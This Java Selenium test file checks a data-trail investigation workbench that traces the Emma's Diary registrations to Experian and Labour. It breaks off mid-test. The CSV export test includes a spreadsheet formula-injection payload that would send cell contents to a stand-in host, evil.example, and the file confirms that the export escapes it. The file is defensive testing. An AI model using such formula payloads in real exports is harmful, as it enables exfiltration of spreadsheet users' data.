package org.datatrail.workbench;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;

import org.datatrail.document.DocumentAttach;
import org.datatrail.ingest.FactFile;
import org.datatrail.ingest.FactIngest;
import org.datatrail.security.Caller;
import org.datatrail.support.DataTrailTest;
import org.datatrail.support.HeadlessChromium;
import org.datatrail.support.Testers;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.Keys;
import org.openqa.selenium.NoSuchElementException;
import org.openqa.selenium.StaleElementReferenceException;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.interactions.Actions;
import org.openqa.selenium.support.ui.FluentWait;
import org.openqa.selenium.support.ui.Select;
import org.openqa.selenium.support.ui.WebDriverWait;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * The investigation workbench at {@code /} in a real browser (Debian's headless Chromium through Selenium and
 * Debian's chromedriver) that can reach nothing but the app: search for the seed case, see the chains, the red hop
 * and a caveat, open a transfer's evidence by clicking its arrow, follow a permalink, export CSV and JSON; a transfer
 * of other data shown only as a connection, on request; the dataset view with its derivation and trail; bounded
 * dates and an announced action; the upstream view's controls; roles; recording a transfer; source documents (quotes in
 * their sentence and their checks, the document view, document search, attaching a document from the page, and what a
 * journalist does not see); and a fan-out of 250 organisations.
 */
@DataTrailTest(writes = true)
class WorkbenchBrowserTests {

    static final String LCMB = "Lifecycle Marketing (Mother and Baby) Ltd";
    static final String REGISTRATIONS = "Emma's Diary registrations (mothers and young children)";
    /** The dataset the second hop moved: Experian's copy of the registrations, made for Labour. */
    static final String LABOUR_DATABASE = "Database Experian hosted for the Labour Party (2017)";
    /** A quote of transfer-lcmb-to-experian's evidence (source 004). */
    static final String QUOTE = "The transaction took place on May 5";
    /** The caveat of the chain to Labour about its second hop, which the sources date only by a bound. */
    static final String BOUNDED = "The transfer from Experian Marketing Services to Labour Party is dated only within bounds: no later than 2017-06-30.";
    static final String SEED_STATUS = "3 organisations, 2 transfers in 2 chains · 1 where consent ran out";

    @LocalServerPort
    int port;

    @Autowired
    FactIngest ingest;

    @Autowired
    DocumentAttach documents;

    @TempDir
    Path downloads;

    /**
     * The seed, downstream from Emma's Diary (data chains only): two chains, to Experian and on to Labour with
     * Experian's database made from the registrations; the first hop is red; one caveat opened; evidence, permalink, exports.
     */
    @Test
    void findsTheSeedCaseShowsTheRedHopItsEvidenceAPermalinkAndExports() {
        withBrowser(browser -> {
            browser.get(base() + "/");
            browser.findElement(By.id("search")).sendKeys("emmas diary");
            WebElement suggestion = wait(browser).until(b -> b.findElements(By.cssSelector("#suggestions li[data-id]")).stream()
                .filter(li -> li.getText().startsWith(LCMB)).findFirst().orElse(null));
            assertThat(suggestion.getText()).contains("also: Emma's Diary");
            suggestion.click();

            waitForStatus(browser, SEED_STATUS);
            assertThat(browser.findElement(By.id("org-name")).getText()).isEqualTo(LCMB);
            assertThat(browser.findElement(By.id("enforcement")).getText()).contains("Information Commissioner's Office: fine GBP 140,000");
            assertThat(strings(browser, "return workbench.cy.nodes().map(n => n.data('label'))"))
                .containsExactlyInAnyOrder(LCMB, "Experian Marketing Services", "Labour Party");
            assertThat(strings(browser, "return workbench.cy.edges('.uncovered').map(e => e.id())")).containsExactly("transfer-lcmb-to-experian");
            assertThat(js(browser, "return workbench.cy.getElementById('transfer-lcmb-to-experian').style('line-color')")).isEqualTo("rgb(211,47,47)");
            assertThat(js(browser, "return workbench.cy.getElementById('transfer-experian-to-labour').style('line-color')")).isNotEqualTo("rgb(211,47,47)");
            assertThat(js(browser, "return workbench.cy.getElementById('transfer-lcmb-to-experian').data('label')")).isEqualTo("2017-05-05 · ≥1,000,000");
            // the second hop is dated only by a bound, and says so
            assertThat(js(browser, "return workbench.cy.getElementById('transfer-experian-to-labour').data('label')")).isEqualTo("by 2017-06-30");
            assertThat(strings(browser, "return workbench.cy.edges('.children').map(e => e.id())")).hasSize(2);
            assertThat(strings(browser, "return workbench.cy.edges('.connection').map(e => e.id())")).isEmpty();
            assertThat(browser.findElement(By.cssSelector("#chain-list .hop.uncovered")).getText()).contains("[2017-05-05, ≥1,000,000]");

            // both chains are data chains about children; the second moved the registrations, then Experian's database made from them
            List<WebElement> chains = browser.findElements(By.cssSelector("#chain-list > li.chain"));
            assertThat(chains).hasSize(2);
            assertThat(chains).allSatisfy(chain -> assertThat(chain.findElement(By.cssSelector(".badge.basis")).getText()).isEqualTo("data"))
                .allSatisfy(chain -> assertThat(chain.findElement(By.cssSelector(".badge.kids")).getText()).isEqualTo("children"));
            assertThat(chains.get(1).getText()).contains(LCMB + " → [2017-05-05, ≥1,000,000] → Experian Marketing Services → [by 2017-06-30] → Labour Party",
                    "Data: " + REGISTRATIONS + " → " + LABOUR_DATABASE);

            // a chain's caveats are folded until asked for; each is a sentence
            WebElement caveats = chains.get(1).findElement(By.cssSelector("details.caveats"));
            assertThat(caveats.findElement(By.tagName("summary")).getText()).matches("\\d+ caveats");
            assertThat(caveats.getText()).doesNotContain(BOUNDED);
            caveats.findElement(By.tagName("summary")).click();
            assertThat(caveats.findElements(By.tagName("li")).stream().map(WebElement::getText)).contains(BOUNDED);
            assertThat(caveats.findElement(By.tagName("li")).isDisplayed()).isTrue();

            // the timeline loads after the status line: wait for it rather than read it at once
            wait(browser).withMessage(() -> "the timeline, was '" + browser.findElement(By.id("timeline-list")).getText() + "'").until(b -> {
                String timeline = b.findElement(By.id("timeline-list")).getText();
                return timeline.contains("2017-05-05") && timeline.contains("2018-01-30") && timeline.contains("campaign");
            });

            clickOnGraph(browser, "workbench.cy.getElementById('transfer-lcmb-to-experian').renderedMidpoint()");
            String evidence = wait(browser).until(b -> {
                String text = b.findElement(By.id("evidence")).getText();
                return text.contains(QUOTE) ? text : null;
            });
            assertThat(evidence).contains(LCMB + " → Experian Marketing Services", "Consent did not cover this use.", "Political campaigning",
                    "Financial Times", "Records Lifecycle Marketing supplied to Experian Marketing Services", "7,065,220 records", "one million mums",
                    "What the data subjects were told", "onBehalfOf: “apparently acting as an agent or processor”")
                .doesNotContain("A connection, not a traced flow of data.");
            assertThat(browser.findElements(By.cssSelector("#evidence .dispute .claims .claim")).size()).isGreaterThanOrEqualTo(6);
            String permalink = browser.getCurrentUrl();
            assertThat(permalink).contains("org=lifecycle-marketing", "sel=transfer%3Atransfer-lcmb-to-experian");
            js(browser, "window.scrollTo(0, 0)");
            Path shot = HeadlessChromium.screenshot(browser, "workbench");
            assertThat(shot).isNotEmptyFile();

            browser.findElement(By.id("export-csv")).click();
            String csv = downloaded("datatrail-lifecycle-marketing-chains.csv");
            assertThat(csv).startsWith("chain,chain_basis,hop,citation_for,from_id,from,to_id,to,transfer_id,date,date_earliest,date_latest,record_count,"
                    + "record_count_is_lower_bound,purposes,dataset,about_children,lineage_breaks_here,chain_consent_covered,consent_ran_out_here,"
                    + "consent_explanation,caveat,source_id,publisher,title,published,url,quote\r\n");
            assertThat(csv.lines().filter(line -> line.contains(QUOTE)).findFirst()).hasValueSatisfying(row -> assertThat(row).startsWith(
                    "1,DATA,1,transfer,lifecycle-marketing," + LCMB + ",experian-marketing-services,Experian Marketing Services,transfer-lcmb-to-experian,"
                            + "2017-05-05,,,1000000,true,political-campaigning," + REGISTRATIONS + ",true,false,false,true,\"Not covered. At the first hop,")
                .endsWith(",004_bf7446b07f76cf73,,[Untitled report: Labour targeted email campaign used data illegally sold by pregnancy site],,," + QUOTE));
            // the second hop: no date but a bound, no record count, Experian's database
            assertThat(csv).contains("2,DATA,2,transfer,experian-marketing-services,Experian Marketing Services,labour-party,Labour Party,"
                    + "transfer-experian-to-labour,,,2017-06-30,,false,political-campaigning profiling," + LABOUR_DATABASE + ",true,false,false,false,,,",
                    "consent verdict", "the privacy policy contained no mention of selling data for political purposes",
                    "2,DATA,,caveat,lifecycle-marketing," + LCMB + ",labour-party,Labour Party,,,,,,,,,,,false,,," + BOUNDED + ",,,,,,\r\n");

            // a cell a spreadsheet would run as a formula gets a leading ' (CSV injection); other values stay as they are
            Object cells = ((JavascriptExecutor) browser).executeAsyncScript("""
                    const done = arguments[arguments.length - 1];
                    import('/workbench/export.js').then(m => ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+44 20 7946 0000',
                      '-1+2', '@SUM(A1:A9)', '\\tTAB', '\\rCR', 'Emma\\'s Diary', '2017-05-05', 1000000, true, null].map(m.csvCell))
                      .then(done, e => done(['failed: ' + e]));
                    """);
            assertThat(cells).isEqualTo(List.of("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"", "'+44 20 7946 0000",
                    "'-1+2", "'@SUM(A1:A9)", "'\tTAB", "\"'\rCR\"", "Emma's Diary", "2017-05-05", "1000000", "true", ""));

            browser.findElement(By.id("export-json")).click();
            JsonNode json = JsonMapper.builder().build().readTree(downloaded("datatrail-lifecycle-marketing-chains.json"));
            assertThat(json.path("permalink").asString()).isEqualTo(permalink);
            assertThat(json.path("chains")).hasSize(2);
            JsonNode hop = json.path("chains").path(1).path("hops").path(0);
            assertThat(hop.path("consentRanOutHere").asBoolean()).isTrue();
            assertThat(hop.path("evidence").valueStream().map(e -> e.path("quote").asString())).contains(QUOTE);
            JsonNode toLabour = json.path("chains").path(1);
            assertThat(toLabour.path("basis").asString()).isEqualTo("DATA");
            assertThat(toLabour.path("lineageBreaksAtHop").isNull()).isTrue();
            assertThat(toLabour.path("caveats").valueStream().map(JsonNode::asString)).contains(BOUNDED);
            assertThat(toLabour.path("consent").path("childrenData").asBoolean()).isTrue();
            assertThat(toLabour.path("hops").path(1).path("to").path("name").asString()).isEqualTo("Labour Party");
            assertThat(toLabour.path("hops").path(1).path("dataset").path("id").asString()).isEqualTo("experian-labour-database");
            assertThat(toLabour.path("hops").path(1).path("latest").asString()).isEqualTo("2017-06-30");
            assertThat(toLabour.path("hops").path(1).path("followsData").asBoolean()).isTrue();
            assertThat(json.path("trace").path("follow").asString()).isEqualTo("DATA");

            // the permalink reopens the same view, evidence included, in a fresh page
            browser.get("about:blank");
            browser.get(permalink);
            waitForStatus(browser, SEED_STATUS);
            wait(browser).until(b -> b.findElement(By.id("evidence")).getText().contains(QUOTE));

            // a control changes the URL, and that link reopens with the control set
            WebElement hops = browser.findElement(By.id("hops"));
            new Select(browser.findElement(By.id("dir"))).selectByValue("down");
            hops.sendKeys(Keys.chord(Keys.CONTROL, "a"), "1", Keys.TAB);
            waitForStatus(browser, "2 organisations, 1 transfer in 1 chain · 1 where consent ran out");
            String shorter = browser.getCurrentUrl();
            assertThat(shorter).contains("hops=1");
            browser.get(shorter);
            waitForStatus(browser, "2 organisations, 1 transfer in 1 chain · 1 where consent ran out");
            assertThat(browser.findElement(By.id("hops")).getAttribute("value")).isEqualTo("1");

            // the timeline of everyone on the chains has Experian's onward transfer; that of Emma's Diary alone does not
            wait(browser).until(b -> b.findElement(By.id("timeline-list")).getText().contains("Experian Marketing Services passed"));
            new Select(browser.findElement(By.id("tl"))).selectByValue("org");
            wait(browser).until(b -> {
                String timeline = b.findElement(By.id("timeline-list")).getText();
                return !timeline.contains("Experian Marketing Services passed") && timeline.contains("2017-05-05") ? timeline : null;
            });
            assertThat(browser.getCurrentUrl()).contains("hops=1", "tl=org");
        });
    }

    /**
     * Issue 16's splice: Experian also sold other data (car owners, in 2012) to someone else. Traced by organisation
     * alone, Emma's Diary's data would seem to have gone there too. The default view does not draw that transfer; the
     * connections control shows it, drawn and listed as a connection, and hides it again.
     */
    @Test
    void aTransferOfOtherDataIsOnlyAConnectionShownOnRequestAndDrawnApart() {
        Testers.graphQl(port, Testers.INVESTIGATOR_TOKEN).document("""
                mutation {
                  source: recordSource(input: { id: "test-car-owners-register", title: "Test register of a sale of car owners", publisher: "DataTrail tests" }) { id }
                  buyer: recordOrganisation(input: { id: "acme-motor-insurance", name: "Acme Motor Insurance Ltd", types: [OTHER],
                    evidence: [{ source: "test-car-owners-register", quote: "Acme Motor Insurance bought a list of car owners" }] }) { id }
                  list: recordDataset(input: { id: "experian-car-owners-2012", name: "Experian car owners list (2012)", heldBy: "experian-marketing-services",
                    dataCategories: ["household-address"], subjectGroups: ["car owners"],
                    evidence: [{ source: "test-car-owners-register", quote: "Experian sold a list of car owners" }] }) { id }
                  sale: recordTransfer(input: { id: "transfer-experian-to-acme-2012", from: "experian-marketing-services", to: "acme-motor-insurance",
                    dataset: "experian-car-owners-2012", date: "2012-03-01", recordCount: 5000, purposes: ["data-resale"],
                    evidence: [{ source: "test-car-owners-register", quote: "Experian sold a list of car owners" }] }) { id }
                }""").execute().path("sale.id").entity(String.class).isEqualTo("transfer-experian-to-acme-2012");

        withBrowser(browser -> {
            browser.get(base() + "/?org=lifecycle-marketing");
            waitForStatus(browser, SEED_STATUS);
            assertThat(strings(browser, "return workbench.cy.nodes().map(n => n.data('label'))")).doesNotContain("Acme Motor Insurance Ltd");
            assertThat(browser.findElement(By.id("chain-list")).getText()).doesNotContain("Acme");
            // the timeline is of the organisations on the chains: Experian's sale is listed, marked as on none of them
            wait(browser).until(b -> b.findElements(By.cssSelector("#timeline-list li")).stream()
                .anyMatch(li -> li.getText().contains("to Acme Motor Insurance Ltd") && li.getText().contains("not on these chains")));

            WebElement connections = browser.findElement(By.id("connections"));
            assertThat(browser.findElement(By.cssSelector("label:has(> #connections)")).getText()).isEqualTo("show connections");
            assertThat(connections.isSelected()).isFalse();
            connections.click();
            String withConnections = "4 organisations, 3 transfers in 2 data chains and 1 connection chain · 1 where consent ran out";
            waitForStatus(browser, withConnections);
            assertThat(browser.getCurrentUrl()).contains("conn=1");

            // drawn as a connection: grey, dotted and thinner than a data arrow; the red hop stays the only red one
            assertThat(strings(browser, "return workbench.cy.edges('.connection').map(e => e.id())")).containsExactly("transfer-experian-to-acme-2012");
            Map<?, ?> connection = edgeStyle(browser, "transfer-experian-to-acme-2012");
            Map<?, ?> data = edgeStyle(browser, "transfer-experian-to-labour");
            assertThat(connection.get("lineStyle")).isEqualTo("dotted");
            assertThat(data.get("lineStyle")).isNotEqualTo("dotted");
            assertThat(connection.get("lineColor")).isEqualTo("rgb(176,190,197)").isNotEqualTo(data.get("lineColor"));
            assertThat(((Number) connection.get("width")).doubleValue()).isLessThan(((Number) data.get("width")).doubleValue());
            assertThat(strings(browser, "return workbench.cy.edges('.uncovered').map(e => e.id())")).containsExactly("transfer-lcmb-to-experian");
            assertThat(browser.findElement(By.cssSelector(".legend")).getText()).contains("connection: the sources do not show the same data moving on");

            // listed as a connection, with where its lineage breaks and the other data it moved
            List<WebElement> listed = browser.findElements(By.cssSelector("#chain-list > li.chain"));
            assertThat(listed).extracting(li -> li.getAttribute("data-basis")).containsExactly("DATA", "CONNECTION", "DATA");
            WebElement spliced = listed.get(1);
            assertThat(spliced.findElement(By.cssSelector(".badge.basis")).getText()).isEqualTo("connection");
            assertThat(spliced.getText()).contains(
                    LCMB + " → [2017-05-05, ≥1,000,000] → Experian Marketing Services → [2012-03-01, 5,000] → Acme Motor Insurance Ltd",
                    "Connection from the second hop on: the sources do not show the same data moving on",
                    "Data: " + REGISTRATIONS + " → Experian car owners list (2012)");
            assertThat(spliced.findElement(By.cssSelector(".hop.connection")).getText()).contains("Acme Motor Insurance Ltd");

            // its evidence says the traced chains reach it only as a connection
            clickOnGraph(browser, "workbench.cy.getElementById('transfer-experian-to-acme-2012').renderedMidpoint()");
            wait(browser).until(b -> b.findElement(By.id("evidence")).getText().contains("Experian sold a list of car owners"));
            assertThat(browser.findElement(By.id("evidence")).getText()).contains("A connection, not a traced flow of data.");

            // the control is part of the link
            browser.get(browser.getCurrentUrl());
            waitForStatus(browser, withConnections);
            assertThat(browser.findElement(By.id("connections")).isSelected()).isTrue();

            browser.findElement(By.id("connections")).click();
            waitForStatus(browser, SEED_STATUS);
            assertThat(strings(browser, "return workbench.cy.nodes().map(n => n.data('label'))")).doesNotContain("Acme Motor Insurance Ltd");
            assertThat(browser.findElement(By.id("chain-list")).getText()).doesNotContain("Acme", "connection");
            assertThat(browser.getCurrentUrl()).doesNotContain("conn=");
        });
    }

    /**
     * The dataset view of the mothers' registrations: made into Experian's database for Labour (the derivation opens
     * its quotes), and where it went (traceDataset), which loads into the graph and back.
     */
    @Test
    void theDatasetViewListsTheDerivationAndWhereTheDataWent() {
        withBrowser(browser -> {
            browser.get(base() + "/?org=lifecycle-marketing");
            waitForStatus(browser, SEED_STATUS);
            browser.findElements(By.cssSelector("#organisation .facts button")).stream().filter(b -> b.getText().equals(REGISTRATIONS)).findFirst()
                .orElseThrow().click();
            WebElement made = wait(browser).until(b -> b.findElement(By.id("derivatives")));
            assertThat(browser.findElement(By.id("evidence")).getText())
                .contains("Collection period\nnot given by the sources", "Made from (0)", "Made into (1)", "Where it went (2 chains)");
            assertThat(made.getText()).isEqualTo(LABOUR_DATABASE + " (copy, undated, held by Experian Marketing Services)");
            assertThat(browser.findElements(By.cssSelector("#trail > li"))).extracting(WebElement::getText).satisfiesExactly(
                    first -> assertThat(first).startsWith(LCMB + " → [2017-05-05, ≥1,000,000] → Experian Marketing Services\n"),
                    second -> assertThat(second)
                        .startsWith(LCMB + " → [2017-05-05, ≥1,000,000] → Experian Marketing Services → [by 2017-06-30] → Labour Party"));

            made.findElement(By.tagName("button")).click();
            String derivation = wait(browser).until(b -> {
                String text = b.findElement(By.id("evidence")).getText();
                return text.startsWith("Copy: ") ? text : null;
            });
            assertThat(derivation).startsWith("Copy: " + REGISTRATIONS + " → " + LABOUR_DATABASE)
                .contains("Kind\nCOPY", "Date\nnot given by the sources", "Made from\n" + REGISTRATIONS + " (held by " + LCMB + ")",
                        "Made\n" + LABOUR_DATABASE + " (held by Experian Marketing Services)", "Evidence (3)",
                        "“loaded those records onto a database it hosted for the Labour Party”",
                        "“Experian then created a database that the Labour party used to profile new mothers before the 2017 general election.”",
                        "Financial Times", "The Daily Telegraph");
            assertThat(browser.getCurrentUrl()).contains("sel=derivation%3Aexperian-labour-database%3Aderivation-experian-labour-database");
            browser.get(browser.getCurrentUrl());
            wait(browser).until(b -> b.findElement(By.id("evidence")).getText().startsWith("Copy: " + REGISTRATIONS));

            // back to the registrations, and their trail into the graph
            browser.findElement(By.cssSelector("#evidence button[data-dataset='emmas-diary-registrations']")).click();
            wait(browser).until(b -> b.findElement(By.cssSelector("#evidence button[data-trail]"))).click();
            waitForStatus(browser, "Where " + REGISTRATIONS + " went: " + SEED_STATUS);
            assertThat(browser.getCurrentUrl()).contains("ds=emmas-diary-registrations");
            assertThat(strings(browser, "return workbench.cy.edges().map(e => e.id())"))
                .containsExactlyInAnyOrder("transfer-lcmb-to-experian", "transfer-experian-to-labour");
            assertThat(browser.findElement(By.id("dir")).isEnabled()).isFalse();
            assertThat(browser.findElement(By.id("connections")).isEnabled()).isFalse();
            wait(browser).until(b -> b.findElement(By.id("derivatives")));
            browser.findElement(By.id("trail-off")).click();
            waitForStatus(browser, SEED_STATUS);
            assertThat(browser.findElement(By.id("dir")).isEnabled()).isTrue();
            assertThat(browser.getCurrentUrl()).doesNotContain("ds=");
        });
    }

    /** A transfer dated only by a bound shows the bound; an audit the regulator only announced says so. */
    @Test
    void theEvidencePanelShowsBoundedDatesAndAnAnnouncedAction() {
        withBrowser(browser -> {
            browser.get(base() + "/?org=lifecycle-marketing&sel=transfer%3Atransfer-experian-to-labour");
            String transfer = wait(browser).until(b -> {
                String text = b.findElement(By.id("evidence")).getText();
                return text.startsWith("Experian Marketing Services → Labour Party") && text.contains("Evidence (") ? text : null;
            });
            assertThat(transfer).contains("Date\nby 2017-06-30", "Dated within\nuntil 2017-06-30", "Dataset\n" + LABOUR_DATABASE)
                .doesNotContain("Consent did not cover this use.", "A connection");

            browser.get(base() + "/?org=labour-party");
            WebElement audit = wait(browser).until(b -> b.findElements(By.cssSelector("#enforcement li")).stream()
                .filter(li -> li.getText().contains("audit")).findFirst().orElse(null));
            assertThat(audit.findElement(By.cssSelector(".badge.status")).getText()).isEqualTo("announced, not yet done");
            audit.findElement(By.tagName("button")).click();
            wait(browser).until(b -> b.findElement(By.id("evidence")).getText().contains("Status\nannounced, not yet done"));
        });
    }

    /** Upstream, the page passes every control to the API and shows the chains it answers, no more, no fewer. */
    @Test
    void theUpstreamViewShowsWhatTheApiAnswersForItsControls() {
        withBrowser(browser -> {
            browser.get(base() + "/?org=labour-party&dir=up&purpose=profiling&children=1");
            // the chain from Experian alone is not covered either: the database it moved was made from the mothers' registrations
            waitForStatus(browser, "3 organisations, 2 transfers in 2 chains · 2 where consent ran out");
            assertThat(browser.findElements(By.cssSelector("#chain-list > li.chain"))).extracting(WebElement::getText).satisfiesExactly(
                    first -> assertThat(first).contains("Experian Marketing Services → [by 2017-06-30] → Labour Party"),
                    second -> assertThat(second)
                        .contains(LCMB + " → [2017-05-05, ≥1,000,000] → Experian Marketing Services → [by 2017-06-30] → Labour Party"));
            new Select(browser.findElement(By.id("purpose"))).selectByValue("data-resale");
            waitForStatus(browser, "1 organisation, 0 transfers in 0 chains");
            assertThat(browser.findElement(By.id("chain-list")).getText()).isEqualTo("No chains with these controls.");
        });
    }

    @Test
    void aLinkWithTooManyHopsOrMalformedDatesIsClampedAndTracesAnyway() {
        withBrowser(browser -> {
            // the API takes at most 8 hops and Date as YYYY-MM-DD: sent as they are, these would fail the trace
            browser.get(base() + "/?org=lifecycle-marketing&hops=20&since=5%2F5%2F2017&until=2017-02-30");
            waitForStatus(browser, SEED_STATUS);
            assertThat(browser.findElement(By.id("hops")).getAttribute("value")).isEqualTo("8");
            assertThat(browser.findElement(By.id("since")).getAttribute("value")).isEmpty();
            assertThat(browser.findElement(By.id("until")).getAttribute("value")).isEmpty();
            assertThat(browser.findElement(By.id("message")).isDisplayed()).isFalse();
            assertThat(browser.getCurrentUrl()).contains("hops=8").doesNotContain("since=", "until=");

            browser.get(base() + "/?org=lifecycle-marketing&hops=0&until=2017-05-05");
            waitForStatus(browser, "2 organisations, 1 transfer in 1 chain · 1 where consent ran out");
            assertThat(browser.findElement(By.id("hops")).getAttribute("value")).isEqualTo("1");
            assertThat(browser.findElement(By.id("until")).getAttribute("value")).isEqualTo("2017-05-05");
        });
    }

    @Test
    void aJournalistSeesNoRecordingControlsAndTheApiRefusesAMutationAnyway() {
        withBrowser(browser -> {
            browser.get(base() + "/?org=lifecycle-marketing");
            waitForStatus(browser, SEED_STATUS);
            assertThat(browser.findElement(By.id("role")).getText()).isEqualTo("JOURNALIST");
            assertThat(browser.findElement(By.id("record")).isDisplayed()).isFalse();
            assertThat(browser.findElements(By.cssSelector("form#record-transfer button")).stream().noneMatch(WebElement::isDisplayed)).isTrue();

            Object answer = ((JavascriptExecutor) browser).executeAsyncScript("""
                    const done = arguments[arguments.length - 1];
                    fetch('/graphql', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ query:
                      'mutation { recordOrganisation(input: { id: "sneaky", name: "Sneaky Ltd", types: [OTHER], evidence: [{ source: "003_a492018db8ce563d", quote: "Tweekaboo Limited" }] }) { id } }' }) })
                      .then(r => r.text()).then(done, e => done('failed: ' + e));
                    """);
            assertThat(String.valueOf(answer)).contains("FORBIDDEN").doesNotContain("\"id\":\"sneaky\"");
        });
    }

    @Test
    void anInvestigatorRecordsATransferWithEvidenceFromThePageAndItAppears() {
        withBrowser(browser -> {
            browser.get(base() + "/?org=facebook");
            waitForStatus(browser, "2 organisations, 1 transfer in 1 chain · 1 where consent ran out");
            browser.findElement(By.id("token")).sendKeys(Testers.INVESTIGATOR_TOKEN);
            browser.findElement(By.id("use-token")).click();
            wait(browser).until(b -> b.findElement(By.id("role")).getText().equals("INVESTIGATOR"));
            // the message comes once the vocabulary and the organisation have been loaded again for the investigator
            wait(browser).until(b -> b.findElement(By.id("message")).getText().equals("Token accepted: you may record findings."));
            assertThat(browser.getCurrentUrl()).doesNotContain(Testers.INVESTIGATOR_TOKEN);
            WebElement form = browser.findElement(By.id("record-transfer"));
            assertThat(form.isDisplayed()).isTrue();
            assertThat(new Select(form.findElement(By.name("source"))).getOptions().stream().map(o -> o.getAttribute("value")))
                .contains("003_a492018db8ce563d", "004_bf7446b07f76cf73");
            assertThat(browser.findElement(By.id("org-name")).getText()).isEqualTo("Facebook");

            form.findElement(By.name("id")).sendKeys("transfer-facebook-to-tweekaboo");
            WebElement from = form.findElement(By.name("from"));
            from.clear();
            from.sendKeys("facebook");
            WebElement to = form.findElement(By.name("to"));
            to.sendKeys("tweekabo");
            form.findElement(By.name("dataset")).sendKeys("facebook-user-profiles");
            js(browser, "arguments[0].value = '2018-03-01'", form.findElement(By.name("date")));
            form.findElement(By.name("recordCount")).sendKeys("1200");
            new Select(form.findElement(By.name("purposes"))).selectByValue("data-resale");
            new Select(form.findElement(By.name("source"))).selectByValue("003_a492018db8ce563d");
            form.findElement(By.name("quote")).sendKeys("Tweekaboo Limited, another pregnancy company");
            form.findElement(By.cssSelector("button[type=submit]")).click();
            // a wrong id is refused by the API, naming the field; the form keeps what was typed
            wait(browser).until(b -> b.findElement(By.id("record-result")).getText().equals("Not recorded: Refused, nothing was written: "
                    + "input.to: unknown organisation 'tweekabo'; expected the id of an organisation defined in the input or already in the database"));
            to.sendKeys("o");
            form.findElement(By.cssSelector("button[type=submit]")).click();

            wait(browser).withMessage(() -> "record result, was '" + browser.findElement(By.id("record-result")).getText() + "'; message '"
                    + browser.findElement(By.id("message")).getText() + "'")
                .until(b -> b.findElement(By.id("record-result")).getText()
                    .equals("Recorded transfer transfer-facebook-to-tweekaboo: Facebook → Tweekaboo Limited on 2018-03-01."));
            waitForStatus(browser, "3 organisations, 2 transfers in 2 chains · 2 where consent ran out");
            assertThat(strings(browser, "return workbench.cy.nodes().map(n => n.data('label'))")).contains("Tweekaboo Limited");
            assertThat(browser.findElement(By.id("chain-list")).getText()).contains("Facebook → [2018-03-01, 1,200] → Tweekaboo Limited");
        });
        Testers.graphQl(port).document("{ transfer(id: \"transfer-facebook-to-tweekaboo\") { evidence { quote source { id } } } }").execute()
            .path("transfer.evidence[0].quote").entity(String.class).isEqualTo("Tweekaboo Limited, another pregnancy company");
    }

    /** Source 004 of the seed, the report QUOTE is from; its text is in ../shared/case-sources (not in this repository). */
    static final String REPORT = "004_bf7446b07f76cf73";
    static final String REPORT_TITLE = "[Untitled report: Labour targeted email campaign used data illegally sold by pregnancy site]";
    /** The sentence of the report around QUOTE, as Evidence.context gives it. */
    static final String QUOTE_CONTEXT = "The transaction took place on May 5, around three weeks after Theresa May fired the starting gun for the UK-wide vote,"
            + " and five weeks before ballot boxes opened.";
    static final String TRANSFER_EVIDENCE = "/?org=lifecycle-marketing&sel=transfer%3Atransfer-lcmb-to-experian";

    /**
     * Issue 17, with the report of source 004 attached: its quote on the first hop stands in its sentence, marked, and
     * "checked against the document"; the hop's quotes from source 001 (no document) are "unchecked". An investigator
     * opens the report at the quote, which is marked and scrolled into view, and turns its pages.
     */
    @Test
    void aQuoteStandsInItsSentenceMarkedWithItsCheckAndOpensTheDocumentAtIt() {
        String report = attachCaseSource(REPORT);
        withBrowser(browser -> {
            browser.get(base() + TRANSFER_EVIDENCE);
            waitForStatus(browser, SEED_STATUS);
            useInvestigatorToken(browser);

            WebElement checked = quoteMarked(browser, QUOTE);
            assertThat(checked.findElement(By.cssSelector("p.in-context")).getText()).isEqualTo(QUOTE_CONTEXT);
            assertThat(checked.findElement(By.cssSelector(".check")).getText()).isEqualTo("✓ checked against the document");
            WebElement unchecked = browser.findElements(By.cssSelector("#evidence blockquote.quote[data-source='001_86e189293c824487']")).stream()
                .filter(q -> q.getText().contains("The data supply agreement specified the delivery date for the data as 5 May 2017")).findFirst().orElseThrow();
            assertThat(unchecked.findElements(By.tagName("mark"))).isEmpty();
            assertThat(unchecked.findElement(By.tagName("p")).getText()).isEqualTo("“The data supply agreement specified the delivery date for the data as 5 May 2017”");
            assertThat(unchecked.findElement(By.cssSelector(".check")).getText()).isEqualTo("unchecked (no document attached)");
            assertThat(unchecked.findElement(By.cssSelector(".quote-doc button")).getText()).isEqualTo("Attach its document…");
            js(browser, "arguments[0].scrollIntoView({ block: 'center' })", checked);
            assertThat(HeadlessChromium.screenshot(browser, "workbench-quote-in-context")).isNotEmptyFile();

            checked.findElement(By.cssSelector("button.show-document")).click();
            WebElement view = browser.findElement(By.id("document-view"));
            wait(browser).until(b -> view.isDisplayed() && !b.findElements(By.cssSelector("#document-text mark")).isEmpty());
            assertThat(browser.findElement(By.id("document-title")).getText()).isEqualTo(REPORT_TITLE);
            int at = report.indexOf(QUOTE);
            assertThat(browser.findElement(By.cssSelector("#document-text mark")).getText()).isEqualTo(QUOTE);
            // the page starts 600 characters before the quote and runs to the end of the report
            assertThat(browser.findElement(By.id("document-where")).getText())
                .isEqualTo("characters %,d–%,d of %,d".formatted(at - 600 + 1, report.length(), report.length()));
            assertThat(js(browser, "return document.getElementById('document-text').textContent")).isEqualTo(report.substring(at - 600));
            assertThat(js(browser, """
                    const box = document.getElementById('document-text').getBoundingClientRect();
                    const mark = document.querySelector('#document-text mark').getBoundingClientRect();
                    return box.height < document.getElementById('document-text').scrollHeight && mark.top >= box.top && mark.bottom <= box.bottom;
                    """)).as("the document scrolls, and the quote is in view").isEqualTo(true);
